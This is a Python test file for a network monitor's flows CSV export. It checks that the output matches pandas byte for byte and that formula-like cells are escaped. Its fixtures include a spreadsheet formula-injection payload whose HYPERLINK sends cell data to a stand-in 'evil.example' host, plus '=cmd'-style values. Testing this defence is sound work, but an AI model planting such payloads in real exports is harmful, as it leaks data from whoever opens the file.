"""The pandas-free flows CSV is byte for byte what pandas' ``to_csv`` writes of the flow
frame (its twin): for hostile names, for any values Hypothesis finds, and for the flows of
the sample captures and the real ones in ../shared/pcaps-real."""

from __future__ import annotations

import math
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from monitor.classify.catalog import load_catalog
from monitor.config import default_policy, load_policy
from monitor.model import EndReason, FindingKind, FlowRecord, TlsCertificate, Verdict
from monitor.replay import run_replay
from monitor.report import write_flows
from monitor.report.flows_csv import FLOW_COLUMNS, write_flows_csv
from monitor.report.flows_table import FLOW_DTYPES, flows_frame, read_flows, spreadsheet_safe
from tests.requirements import require_shared, shared_names
from tests.unit.report_samples import sample_flows

ROOT = Path(__file__).resolve().parents[2]
SAMPLES = sorted((ROOT / "pcaps").glob("*.pcap*"))


def pandas_csv(flows: list[FlowRecord], path: Path) -> bytes:
    """The twin: the flow frame, escaped and written by pandas as the export was before."""
    frame = spreadsheet_safe(flows_frame(flows))
    frame.to_csv(path, index=False, encoding="utf-8", lineterminator="\r\n")
    return path.read_bytes()


def ours(flows: list[FlowRecord], path: Path) -> bytes:
    write_flows_csv(flows, path)
    return path.read_bytes()


def same_as_pandas(flows: list[FlowRecord], tmp: Path) -> None:
    mine, twin = ours(flows, tmp / "ours.csv"), pandas_csv(flows, tmp / "pandas.csv")
    assert mine == twin


def test_columns_are_the_frame_dtypes() -> None:
    assert [name for name, _ in FLOW_COLUMNS] == list(FLOW_DTYPES)


def test_samples_and_hostile_names(tmp_path: Path) -> None:
    flows = sample_flows()
    same_as_pandas(flows, tmp_path)
    same_as_pandas([], tmp_path)
    hostile = flows[1]
    hostile.peer_name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    hostile.query_name = "a,b\r\nc"  # a comma, a line end: quoted
    hostile.vendor, hostile.endpoint = "'quoted", "-2+3"
    hostile.device, hostile.state = "\r=1+1", 'say "hi"'
    hostile.ja3 = ""  # an empty string and None are both an empty cell
    hostile.ja4 = "ünïcödé ✓ 名前"
    hostile.tls_certificate = TlsCertificate(
        subject="CN=cam.example,O=Ex\\, Inc.", common_name="cam.example",
        dns_names=("cam.example", "@evil"), issuer="CN=CA", serial="01",
        not_before=1.0, not_after=1_893_456_000.5, sha256="ab" * 32,
    )  # fmt: skip
    same_as_pandas(flows, tmp_path)
    text = (tmp_path / "ours.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text and "''quoted" in text and "'-2+3" in text


TEXT = st.one_of(st.none(), st.text(max_size=12), st.sampled_from(["=1", "+", "-", "@", "'"]))
FLOATS = st.floats(allow_nan=False, allow_infinity=False, min_value=0, max_value=4e9)


@st.composite
def flow_records(draw: st.DrawFn) -> FlowRecord:
    first = draw(FLOATS)
    kinds = draw(st.lists(st.sampled_from(list(FindingKind)), max_size=3, unique=True))
    return FlowRecord(
        uid=draw(st.text(min_size=1, max_size=8)), proto=draw(st.sampled_from(["tcp", "udp"])),
        orig_addr=draw(st.text(max_size=15)), orig_port=draw(st.integers(0, 65535)),
        resp_addr=draw(st.text(max_size=15)), resp_port=draw(st.integers(0, 65535)),
        first_ts=first, last_ts=first + draw(st.floats(0, 1e6)),
        orig_pkts=draw(st.integers(0, 2**40)), orig_bytes=draw(st.integers(0, 2**50)),
        resp_pkts=draw(st.integers(0, 2**40)), resp_bytes=draw(st.integers(0, 2**50)),
        state=draw(st.text(max_size=4)), verdict=draw(st.sampled_from(list(Verdict))),
        device=draw(st.text(max_size=10)), peer=draw(st.text(max_size=10)),
        peer_name=draw(TEXT), vendor=draw(TEXT), endpoint=draw(TEXT),
        end_reason=draw(st.sampled_from(list(EndReason))), findings=tuple(kinds),
        query_name=draw(TEXT), ja3=draw(TEXT), ja3s=draw(TEXT), ja4=draw(TEXT),
        community_id=draw(TEXT),
    )  # fmt: skip


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow,
          HealthCheck.function_scoped_fixture])  # fmt: skip
@given(st.lists(flow_records(), max_size=5))
def test_any_flows(tmp_path: Path, flows: list[FlowRecord]) -> None:
    same_as_pandas(flows, tmp_path)


def _replayed(path: Path, config: Path | None = None) -> list[FlowRecord]:
    policy = load_policy(str(config)) if config else default_policy()
    run = run_replay([str(path)], policy, load_catalog(), hash_inputs=False)
    return run.result.flows


@pytest.mark.parametrize("sample", SAMPLES, ids=lambda p: p.name)
def test_flows_of_the_samples(tmp_path: Path, sample: Path) -> None:
    flows = _replayed(sample, ROOT / "pcaps" / "site.yaml")
    assert flows
    same_as_pandas(flows, tmp_path)


@pytest.mark.parametrize("name", shared_names("pcaps-real", "*.pcap*"))
def test_flows_of_the_real_captures(tmp_path: Path, name: str) -> None:
    flows = _replayed(require_shared(f"pcaps-real/{name}"))
    same_as_pandas(flows, tmp_path)


def test_written_through_the_report_package_without_pandas_and_read_back(tmp_path: Path) -> None:
    flows = sample_flows()
    flows[1].peer_name = "=cmd"
    path = tmp_path / "flows.csv"
    write_flows(flows, path)
    back = read_flows(path)
    assert back["peer_name"].iloc[1] == "=cmd"  # the escape comes off again
    assert math.isnan(back["cert_not_after"].iloc[0])
